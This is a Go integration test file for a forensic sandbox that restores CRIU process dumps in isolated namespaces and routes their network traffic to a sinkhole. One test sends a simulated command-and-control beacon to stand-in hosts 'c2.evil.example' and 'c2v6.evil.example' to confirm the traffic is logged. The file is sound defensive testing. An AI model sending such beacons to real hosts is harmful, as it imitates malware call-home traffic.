package local

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/podsleuth/podsleuth/sandbox"
	"github.com/podsleuth/podsleuth/test/fixtures"
	"github.com/podsleuth/podsleuth/test/testenv"
)

// TestMain doubles as the sinkhole server and as a client dialling from inside a sandbox when
// re-executed with those argv (the real binary uses `podsleuth sandbox sinkhole-serve`).
func TestMain(m *testing.M) {
	if len(os.Args) > 2 && os.Args[1] == "__sinkhole" {
		s := &SinkholeServer{Dir: os.Args[2]}
		if err := s.Serve(context.Background()); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	if len(os.Args) > 3 && os.Args[1] == "__dial" {
		os.Exit(dialFromSandbox(os.Args[2], os.Args[3]))
	}
	if len(os.Args) > 3 && os.Args[1] == "__dial6" {
		os.Exit(dialFromSandbox6(os.Args[2], os.Args[3]))
	}
	os.Exit(m.Run())
}

// dialFromSandbox resolves a name through the resolver at 192.0.2.53 (TEST-NET-1: it exists
// only as the sinkhole's TPROXY target inside the sandbox) and sends payload to it on :8443.
func dialFromSandbox(name, payload string) int {
	return dialFamily("4", "192.0.2.53:53", "203.0.113.66:8443", name, payload)
}

// dialFromSandbox6 is dialFromSandbox over IPv6: the resolver at [2001:db8::53] (documentation
// prefix), an AAAA lookup, and a connection to [2001:db8::66]:8443.
func dialFromSandbox6(name, payload string) int {
	return dialFamily("6", "[2001:db8::53]:53", "[2001:db8::66]:8443", name, payload)
}

func dialFamily(fam, resolver, target, name, payload string) int {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp"+fam, resolver)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	ips, err := r.LookupIP(ctx, "ip"+fam, name)
	if err != nil || len(ips) == 0 {
		fmt.Fprintln(os.Stderr, "lookup:", err)
		return 2
	}
	fmt.Println("resolved", ips[0])
	c, err := net.DialTimeout("tcp"+fam, target, 5*time.Second)
	if err != nil {
		fmt.Fprintln(os.Stderr, "dial:", err)
		return 3
	}
	defer c.Close()
	if _, err := c.Write([]byte(payload)); err != nil {
		return 4
	}
	time.Sleep(500 * time.Millisecond)
	return 0
}

func newTestLocal(t *testing.T) *Local {
	t.Helper()
	testenv.RequireRoot(t)
	criu := testenv.CRIU(t)
	testenv.Tool(t, "unshare")
	testenv.Tool(t, "nsenter")
	testenv.Tool(t, "ip")
	exe, err := os.Executable()
	require.NoError(t, err)
	dir := t.TempDir()
	return New(Config{CRIU: criu, StateDir: filepath.Join(dir, "sandboxes"), SinkholeCommand: []string{exe, "__sinkhole"}})
}

// fixtureImages returns the committed bare CRIU image directory test/fixtures/images/full and
// the --file mapping that supplies the executable its process ran: CRIU images hold only the
// executable's path and build-id, so the fixture ships that exact binary as images/full.target
// (see test/fixtures/README.md). Restoring anything else would not test the committed evidence.
func fixtureImages(t *testing.T) (string, map[string]string, int) {
	t.Helper()
	img := filepath.Join(fixtures.Dir(), "images", "full")
	exe := filepath.Join(fixtures.Dir(), "images", "full.target")
	held, err := HeldPaths(img)
	require.NoError(t, err)
	for _, h := range held {
		if !h.Mapped || !strings.HasSuffix(h.Path, "/target") {
			continue
		}
		got, err := elfBuildID(exe)
		require.NoError(t, err)
		require.Equal(t, h.BuildID, got, "images/full.target must be the executable images/full was dumped from")
		return img, map[string]string{h.Path: exe}, 15728
	}
	t.Fatal("images/full maps no target executable")
	return "", nil, 0
}

func restoredPIDs(t *testing.T, l *Local, id string) []sandbox.Process {
	t.Helper()
	ps, err := l.Ps(context.Background(), id)
	require.NoError(t, err)
	var out []sandbox.Process
	for _, p := range ps {
		if p.Restored {
			out = append(out, p)
		}
	}
	return out
}

// tcpListeners returns the listening ports of a /proc/.../net/tcp table.
func tcpListeners(t *testing.T, table string) map[int]bool {
	t.Helper()
	b, err := os.ReadFile(table)
	require.NoError(t, err)
	out := map[int]bool{}
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) > 3 && f[3] == "0A" {
			_, port, _ := strings.Cut(f[1], ":")
			p, _ := strconv.ParseInt(port, 16, 32)
			out[int(p)] = true
		}
	}
	return out
}

// memContains scans the readable mappings of pid through /proc/PID/mem for needle.
func memContains(t *testing.T, pid int, needle string) bool {
	t.Helper()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	require.NoError(t, err)
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	require.NoError(t, err)
	defer mem.Close()
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || f[1][0] != 'r' || strings.Contains(line, "[vvar") || strings.Contains(line, "[vsyscall]") {
			continue
		}
		a, b, _ := strings.Cut(f[0], "-")
		start, _ := strconv.ParseUint(a, 16, 64)
		end, _ := strconv.ParseUint(b, 16, 64)
		buf := make([]byte, end-start)
		n, _ := mem.ReadAt(buf, int64(start))
		if bytes.Contains(buf[:n], []byte(needle)) {
			return true
		}
	}
	return false
}

func TestRestoreImagesLocal(t *testing.T) {
	l := newTestLocal(t)
	img, files, dumpedPID := fixtureImages(t)
	ctx := context.Background()
	info, err := l.Restore(ctx, sandbox.Request{Source: img, Images: img, Files: files})
	require.NoError(t, err)
	t.Cleanup(func() { _ = l.Destroy(ctx, info.ID) })
	require.Equal(t, "stopped", info.State)
	t.Logf("restored in %.3f s: root pid %d, init %d, private %v, recreated %v", info.RestoreSeconds, info.RootPID, info.InitPID, info.PrivatePaths, info.Recreated)

	t.Run("own namespaces", func(t *testing.T) {
		for _, ns := range []string{"net", "pid", "mnt", "uts", "ipc"} {
			require.NotEqual(t, nsInode(os.Getpid(), ns), nsInode(info.RootPID, ns), ns)
			require.Equal(t, info.Namespaces[ns], nsInode(info.RootPID, ns), ns)
		}
	})
	procs := restoredPIDs(t, l, info.ID)
	t.Run("whole tree stopped", func(t *testing.T) {
		comms := map[string]bool{}
		for _, p := range procs {
			comms[p.Comm] = true
			require.True(t, strings.HasPrefix(p.State, "T"), "pid %d (%s) state %s", p.HostPID, p.Comm, p.State)
		}
		// target + its fake kworker child + grandchild, as in full.proc.txt
		require.True(t, comms["target"] && comms["kworker/0:1"] && comms["grandchild"], "%v", comms)
		st, err := readStatus(info.RootPID)
		require.NoError(t, err)
		require.Equal(t, dumpedPID, st.NSpid[len(st.NSpid)-1], "same PID as at dump time, inside the sandbox")
	})
	t.Run("environment and memory hold the markers", func(t *testing.T) {
		env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", info.RootPID))
		require.NoError(t, err)
		require.Contains(t, strings.Split(string(env), "\x00"), "FORENSIC_SECRET=hunter2-env-marker")
		require.True(t, memContains(t, info.RootPID, "CRIU-FORENSIC-MARKER-7f3a9c"))
		require.True(t, memContains(t, info.RootPID, "RWX-SHELLCODE-MARKER"))
	})
	t.Run("listener inside, unreachable from the host", func(t *testing.T) {
		inside := tcpListeners(t, fmt.Sprintf("/proc/%d/net/tcp", info.RootPID))
		require.True(t, inside[47777], "restored 127.0.0.1:47777 listener in the sandbox netns: %v", inside)
		host := tcpListeners(t, "/proc/self/net/tcp")
		if !host[47777] { // the original may still run on a developer machine; not in CI
			_, err := net.DialTimeout("tcp", "127.0.0.1:47777", time.Second)
			require.Error(t, err)
		}
		out, err := exec.Command("nsenter", "-t", strconv.Itoa(info.InitPID), "-n", "ip", "-o", "link").CombinedOutput()
		require.NoError(t, err)
		require.Equal(t, 1, strings.Count(strings.TrimSpace(string(out)), "\n")+1, "only loopback: %s", out)
		require.Contains(t, string(out), "lo:")
	})
	t.Run("held paths are private copies", func(t *testing.T) {
		require.NotEmpty(t, append(info.PrivatePaths, info.Recreated...))
		// the restore re-bound the unix socket path and wrote nothing on the host
		for _, m := range mustMounts(t) {
			for _, p := range info.PrivatePaths {
				require.NotEqual(t, p, m, "no overlay in the host mount namespace")
			}
		}
		for _, p := range info.Recreated {
			if _, err := os.Lstat(p); err == nil {
				require.Contains(t, info.PrivatePaths, filepath.Dir(p), "%s exists on the host only when its directory is a private copy", p)
			}
		}
		inside, err := os.ReadFile(fmt.Sprintf("/proc/%d/root/tmp/podsleuth-fx/target-data.txt", info.RootPID))
		require.NoError(t, err, "the held file is in the sandbox's root")
		require.Len(t, inside, 19)
	})
	t.Run("run resumes", func(t *testing.T) {
		require.NoError(t, l.Signal(ctx, info.ID, syscall.SIGCONT))
		got, err := l.Get(ctx, info.ID)
		require.NoError(t, err)
		require.Equal(t, "running", got.State)
	})
	t.Run("destroy leaves nothing", func(t *testing.T) {
		pidns := nsInode(info.InitPID, "pid")
		require.NoError(t, l.Destroy(ctx, info.ID))
		require.Empty(t, pidsInNS(pidns))
		_, err := os.Stat(info.Dir)
		require.ErrorIs(t, err, os.ErrNotExist)
		m, err := mountsUnder(info.Dir)
		require.NoError(t, err)
		require.Empty(t, m)
		_, err = l.Get(ctx, info.ID)
		require.ErrorIs(t, err, sandbox.ErrNotFound)
	})
}

// copyIntoSandbox copies the test binary into the sandbox's private root (the host's files are
// not visible there) and returns its path inside.
func copyIntoSandbox(t *testing.T, info *sandbox.Info) string {
	t.Helper()
	exe, err := os.Executable()
	require.NoError(t, err)
	b, err := os.ReadFile(exe)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(fmt.Sprintf("/proc/%d/root/tmp/podsleuth-test-dial", info.InitPID), b, 0o755))
	return "/tmp/podsleuth-test-dial"
}

func mustMounts(t *testing.T) []string {
	m, err := mountsUnder("/")
	require.NoError(t, err)
	return m
}

func TestSinkholeLogsCallHome(t *testing.T) {
	l := newTestLocal(t)
	img, files, _ := fixtureImages(t)
	testenv.Tool(t, "nft")
	ctx := context.Background()
	info, err := l.Restore(ctx, sandbox.Request{Source: img, Images: img, Sinkhole: true, Run: true, Files: files})
	require.NoError(t, err)
	t.Cleanup(func() { _ = l.Destroy(ctx, info.ID) })
	require.Equal(t, "running", info.State)
	require.NotNil(t, info.Sinkhole)

	exe := copyIntoSandbox(t, info)
	argv, err := l.EnterCommand(ctx, info.ID, []string{exe, "__dial", "c2.evil.example", "GET /beacon HTTP/1.1\r\nHost: c2.evil.example\r\n\r\n"})
	require.NoError(t, err)
	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
	require.NoError(t, err, "%s", out)
	require.Contains(t, string(out), "resolved 198.18.0.1")

	var evs []sandbox.SinkholeEvent
	require.Eventually(t, func() bool {
		evs, _ = ReadSinkholeLog(info.Dir)
		return len(evs) >= 2
	}, 5*time.Second, 50*time.Millisecond)
	var dns, tcp *sandbox.SinkholeEvent
	for i := range evs {
		switch evs[i].Proto {
		case "dns":
			dns = &evs[i]
		case "tcp":
			tcp = &evs[i]
		}
	}
	require.NotNil(t, dns, "%+v", evs)
	require.Equal(t, "c2.evil.example", dns.Query)
	require.Equal(t, "192.0.2.53:53", dns.Dst)
	require.NotNil(t, tcp, "%+v", evs)
	require.Equal(t, "203.0.113.66:8443", tcp.Dst)
	require.Contains(t, tcp.FirstBytes, "GET /beacon")
	require.NotZero(t, tcp.PID, "the connecting process is attributed")

	t.Run("IPv6 goes to the sinkhole too", func(t *testing.T) {
		argv, err := l.EnterCommand(ctx, info.ID, []string{exe, "__dial6", "c2v6.evil.example", "POST /v6beacon HTTP/1.1\r\n\r\n"})
		require.NoError(t, err)
		out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
		require.NoError(t, err, "%s", out)
		require.Contains(t, string(out), "resolved fd00:5e1f::1")
		var dns6, tcp6 *sandbox.SinkholeEvent
		require.Eventually(t, func() bool {
			evs, _ := ReadSinkholeLog(info.Dir)
			for i := range evs {
				switch {
				case evs[i].Proto == "dns" && evs[i].Query == "c2v6.evil.example":
					dns6 = &evs[i]
				case evs[i].Proto == "tcp" && evs[i].Dst == "[2001:db8::66]:8443":
					tcp6 = &evs[i]
				}
			}
			return dns6 != nil && tcp6 != nil
		}, 5*time.Second, 50*time.Millisecond)
		require.Equal(t, "[2001:db8::53]:53", dns6.Dst)
		require.Contains(t, tcp6.FirstBytes, "POST /v6beacon")
		require.NotZero(t, tcp6.PID, "the connecting process is attributed over IPv6 too")
	})

	t.Run("nothing routes to the host", func(t *testing.T) {
		out, err := exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "ip", "-o", "link").CombinedOutput()
		require.NoError(t, err)
		require.Equal(t, 2, strings.Count(strings.TrimSpace(string(out)), "\n")+1, "sinkhole has lo and its veth only: %s", out)
		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "ip", "route", "show", "default").CombinedOutput()
		require.NoError(t, err)
		require.Empty(t, strings.TrimSpace(string(out)))
		fwd, err := os.ReadFile(fmt.Sprintf("/proc/%d/root/proc/sys/net/ipv4/ip_forward", info.Sinkhole.PID))
		if err == nil {
			_ = fwd // the host /proc view; the sinkhole's own value is checked by nsenter below
		}
		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "sysctl", "-n", "net.ipv4.ip_forward").CombinedOutput()
		require.NoError(t, err)
		require.Equal(t, "0", strings.TrimSpace(string(out)))
		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "ip", "-6", "route", "show", "default").CombinedOutput()
		require.NoError(t, err)
		require.Empty(t, strings.TrimSpace(string(out)), "no IPv6 default route either")
		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "sysctl", "-n", "net.ipv6.conf.all.forwarding").CombinedOutput()
		require.NoError(t, err)
		require.Equal(t, "0", strings.TrimSpace(string(out)))
	})
	sink := info.Sinkhole.PID
	require.NoError(t, l.Destroy(ctx, info.ID))
	require.False(t, alive(sink, 0), "sinkhole server gone")
}

func TestPreflightRefusals(t *testing.T) {
	testenv.RequireRoot(t)
	dir := t.TempDir()
	img := filepath.Join(fixtures.Dir(), "images", "full")
	old := filepath.Join(dir, "criu-old")
	require.NoError(t, os.WriteFile(old, []byte("#!/bin/sh\necho 'Version: 3.17.1'\n"), 0o755))
	tests := []struct {
		name string
		cfg  Config
		req  sandbox.Request
		want string
	}{
		{"criu missing", Config{CRIU: filepath.Join(dir, "nope"), StateDir: dir}, sandbox.Request{Images: img}, "criu (>= 4.2) not found"},
		{"criu too old", Config{CRIU: old, StateDir: dir}, sandbox.Request{Images: img}, "is criu 3.17"},
		{"no images", Config{CRIU: testenv.CRIU(t), StateDir: dir}, sandbox.Request{Images: dir}, "no inventory.img"},
		{"relative state dir", Config{CRIU: testenv.CRIU(t), StateDir: "rel"}, sandbox.Request{Images: img}, "absolute path"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before, _ := os.ReadDir(dir)
			err := New(tt.cfg).Preflight(context.Background(), tt.req)
			require.ErrorIs(t, err, sandbox.ErrPreflight)
			require.ErrorContains(t, err, tt.want)
			after, _ := os.ReadDir(dir)
			require.Equal(t, len(before), len(after), "nothing created")
		})
	}
}
